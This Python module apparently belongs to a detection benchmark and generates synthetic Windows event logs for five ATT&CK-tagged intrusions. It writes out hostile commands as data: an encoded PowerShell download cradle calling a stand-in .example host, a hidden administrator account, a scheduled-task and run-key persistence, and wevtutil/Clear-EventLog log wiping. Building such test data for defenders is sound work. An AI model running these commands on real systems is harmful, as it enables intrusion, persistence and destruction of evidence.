"""Intrusions on Windows workstations and servers.

Handed: company, random source, start. Hands on: one story each.
"""

import base64
from random import Random

from bench.company.formats import windows
from bench.company.habits.office import OFFICE, POWERSHELL, SERVICES
from bench.company.message import Message
from bench.company.stories.base import Story
from bench.company.world import WINDOWS_SERVERS, Company

CMD = r"C:\Windows\System32\cmd.exe"
WEVTUTIL = r"C:\Windows\System32\wevtutil.exe"


def password_spray(company: Company, rng: Random, at: float) -> Story:
    """One password is tried on everybody at the VPN's door; one person used it."""
    address, station = company.intruders[1], "DESKTOP-" + "".join(rng.choices("ABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=7))
    people = rng.sample(company.people, 22)
    sent = []
    for person in people:
        at += rng.uniform(0.3, 0.8)
        sent.append(windows.logon_failure(at, "vpn-1", rng, person.login, address, kind=3, station=station))
    user = people[7].login
    sent.append(windows.logon(at + 1, "vpn-1", rng, user, address, kind=3, station=station))
    sent.append(windows.logon(at + 4, "rds-1", rng, user, address, kind=10, station=station))
    return Story("password_spray", "One password tried on everybody", "T1110.003", (address, station), tuple(sent))


def encoded_powershell(company: Company, rng: Random, at: float) -> Story:
    """A document starts an encoded PowerShell, which fetches more."""
    person = rng.choice(company.staff("sales", "finance"))
    station, user = person.station, person.login
    domain, address = f"cdn.{rng.choice(('lanternfish', 'brightpier', 'saltmarsh'))}.example", company.intruders[4]
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{domain}/a/{rng.getrandbits(32):08x}')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell.exe -nop -w hidden -ep bypass -enc {encoded}"
    sent = [
        windows.process(at, station, rng, user, POWERSHELL, command, rf"{OFFICE}\WINWORD.EXE"),
        windows.sysmon_process(at + 0.1, station, rng, user, POWERSHELL, command, rf"{OFFICE}\WINWORD.EXE"),
        windows.script_block(at + 0.6, station, rng, user, script),
        windows.sysmon_dns(at + 1, station, rng, user, POWERSHELL, domain, address),
        windows.sysmon_connect(at + 1.1, station, rng, user, POWERSHELL, person.address, address, 443),
    ]
    follow_up = ("whoami /all", 'net group "Domain Admins" /domain', "nltest /domain_trusts", "systeminfo")
    for text in follow_up:
        at += rng.uniform(1.5, 3)
        sent.append(windows.sysmon_process(at, station, rng, user, CMD, f"cmd.exe /c {text}", POWERSHELL))
        sent.append(windows.sysmon_connect(at + 0.5, station, rng, user, POWERSHELL, person.address, address, 443))
    markers = (encoded, domain, address)
    return Story("encoded_powershell", "Document starts encoded PowerShell", "T1059.001", markers, tuple(sent))


def lateral_movement(company: Company, rng: Random, at: float) -> Story:
    """From one workstation a service with a random name is put on one server after the other."""
    person = rng.choice(company.staff("support", "warehouse"))
    name = "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", k=8))
    image = rf"C:\Windows\{name}.exe"
    sent: list[Message] = []
    for host in rng.sample(list(WINDOWS_SERVERS), 4):
        at += rng.uniform(1.5, 3)
        share = {
            "SubjectUserName": person.login, "IpAddress": person.address, "ShareName": r"\\*\ADMIN$",
            "RelativeTargetName": f"{name}.exe", "AccessMask": "0x2",
        }  # fmt: skip
        sent += [
            windows.logon(at, host, rng, person.login, person.address, kind=3, station=person.station),
            windows.privileges(at + 0.1, host, rng, person.login),
            windows.security(at + 0.3, host, rng, 5140, share),
            windows.service_installed(at + 0.6, host, rng, name, image),
            windows.sysmon_process(at + 0.9, host, rng, "SYSTEM", image, image, SERVICES),
            windows.process(at + 1.1, host, rng, "SYSTEM", CMD, "cmd.exe /Q /c hostname & ipconfig /all", image),
        ]
    return Story("lateral_movement", "Service planted on four servers", "T1021.002", (name,), tuple(sent))


def persistence(company: Company, rng: Random, at: float) -> Story:
    """A hidden administrator, a scheduled task and a run key make sure of coming back."""
    host, person = rng.choice(("erp-1", "files-1", "rds-1")), rng.choice(company.staff("support", "finance"))
    account = f"adm_{rng.choice(('sync', 'print', 'scan'))}{rng.randrange(10, 99)}$"
    folder = f"{rng.getrandbits(32):08x}"
    program = rf"C:\ProgramData\{folder}\svchost32.exe"
    task = rf"\Microsoft\Windows\{rng.getrandbits(20):05x}Update"
    net = r"C:\Windows\System32\net.exe"
    run_key = {
        "EventType": "SetValue", "Image": r"C:\Windows\System32\reg.exe", "Details": program,
        "TargetObject": r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WindowsHealth",
    }  # fmt: skip
    actor = {"SubjectUserName": person.login, "SubjectDomainName": windows.DOMAIN}
    created = f"schtasks.exe /create /sc minute /mo 15 /tn {task} /tr {program} /ru SYSTEM /f"
    content = f"<Task><Actions><Exec><Command>{program}</Command></Exec></Actions></Task>"
    sent = [
        windows.process(at, host, rng, person.login, net, f"net user {account} Pq7!wz92Lm /add", CMD),
        windows.security(at + 0.4, host, rng, 4720, {"TargetUserName": account, "SamAccountName": account} | actor),
        windows.process(at + 2, host, rng, person.login, net, f"net localgroup Administrators {account} /add", CMD),
        windows.security(
            at + 2.3, host, rng, 4732,
            {"MemberName": f"CN={account}", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"} | actor,
        ),
        windows.process(at + 5, host, rng, person.login, r"C:\Windows\System32\schtasks.exe", created, CMD),
        windows.security(at + 5.4, host, rng, 4698, {"TaskName": task, "TaskContent": content} | actor),
        windows.sysmon(
            at + 8, host, rng, 13, "Registry value set (rule: RegistryEvent)", "Registry value set:", run_key
        ),
        windows.sysmon_process(at + 11, host, rng, "SYSTEM", program, program, r"C:\Windows\System32\svchost.exe"),
    ]  # fmt: skip
    return Story("persistence", "Hidden administrator and scheduled task", "T1136.001", (account, folder), tuple(sent))


def log_clearing(company: Company, rng: Random, at: float) -> Story:
    """Somebody wipes the logs of a server."""
    host, person = rng.choice(("files-1", "erp-1", "print-1")), rng.choice(company.staff("support", "admin"))
    sent = [
        windows.logon(at, host, rng, person.login, person.address, kind=10, station=person.station),
        windows.privileges(at + 0.2, host, rng, person.login),
    ]
    for channel in ("Application", "System", "Security", "Windows PowerShell", "Setup"):
        at += rng.uniform(0.8, 1.6)
        command = f'wevtutil.exe cl "{channel}"'
        sent.append(windows.process(at, host, rng, person.login, WEVTUTIL, command, CMD))
    sent.append(windows.log_cleared(at + 0.5, host, rng, person.login))
    text = "Clear-EventLog -LogName (Get-EventLog -List).Log; Remove-Item (Get-PSReadlineOption).HistorySavePath"
    sent.append(windows.script_block(at + 3, host, rng, person.login, text))
    markers = ("wevtutil.exe cl", "The audit log was cleared", "Clear-EventLog")
    return Story("log_clearing", "Logs wiped on a server", "T1070.001", markers, tuple(sent))
